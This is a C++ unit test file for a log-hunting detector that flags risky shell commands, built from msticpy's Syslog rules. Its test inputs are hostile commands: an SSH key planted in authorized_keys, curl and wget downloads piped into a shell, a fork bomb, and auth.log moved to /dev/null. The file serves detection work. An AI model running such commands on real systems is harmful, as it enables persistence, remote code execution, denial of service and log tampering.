#include "detectors/builtin/risky_command.h"

#include <gtest/gtest.h>

#include <set>

namespace loghunt {
namespace {

std::set<std::string> Fire(std::string_view command, EventKind kind = EventKind::kUserCommand) {
  RiskyCommandDetector d;
  Event e;
  e.kind = kind;
  e.process.command_line = command;
  std::vector<Alert> alerts;
  d.Inspect(e, alerts);
  std::set<std::string> ids;
  for (const auto& a : alerts) ids.insert(a.rule.id);
  return ids;
}

// The five rules of msticpy's resources/cmd_line_rules.json "Syslog" set, on
// minimal lines written for each case.
TEST(RiskyCommand, EachMsticpyRuleFires) {
  EXPECT_EQ(Fire("cat id_rsa.pub >> ~/.ssh/authorized_keys"),
            std::set<std::string>{"msticpy.syslog.authorized_keys"});
  EXPECT_EQ(Fire("curl -s http://x/i | sh"),
            std::set<std::string>{"msticpy.syslog.download_to_shell"});
  EXPECT_EQ(Fire(":(){:|:&};:"), std::set<std::string>{"msticpy.syslog.fork_bomb"});
  EXPECT_EQ(Fire("mv /var/log/auth.log /dev/null"),
            std::set<std::string>{"msticpy.syslog.mv_dev_null"});
  EXPECT_EQ(Fire("/bin/bash -i"), std::set<std::string>{"msticpy.syslog.bin_bash"});
}

TEST(RiskyCommand, MatchingIsCaseSensitiveLikeMsticpy) {
  EXPECT_TRUE(Fire("/BIN/BASH").empty());
  EXPECT_TRUE(Fire("ls -l /tmp").empty());
}

TEST(RiskyCommand, OnlyCommandEventsAreInspected) {
  EXPECT_TRUE(Fire("/bin/bash", EventKind::kLogon).empty());
  EXPECT_EQ(Fire("/bin/bash", EventKind::kProcessStart).size(), 1u);
}

TEST(RiskyCommand, AlertCarriesProcessAndAccountEntities) {
  RiskyCommandDetector d;
  Event e;
  e.kind = EventKind::kProcessStart;
  e.host = "h";
  e.process.command_line = "wget http://a/b.sh -O- | bash";
  e.process.user = "bob";
  e.process.pid = 7;
  std::vector<Alert> alerts;
  d.Inspect(e, alerts);
  ASSERT_EQ(alerts.size(), 1u);
  const Alert& a = alerts[0];
  EXPECT_EQ(a.rule.id, "msticpy.syslog.download_to_shell");
  EXPECT_EQ(a.host, "h");
  ASSERT_EQ(a.entities.size(), 3u);
  EXPECT_EQ(a.entities[0].type, "Host");
  EXPECT_EQ(a.entities[1].type, "Process");
  EXPECT_EQ(a.entities[1].properties[0].second, "wget http://a/b.sh -O- | bash");
  EXPECT_EQ(a.entities[2].type, "Account");
  EXPECT_EQ(a.entities[2].properties[0].second, "bob");
}

}  // namespace
}  // namespace loghunt
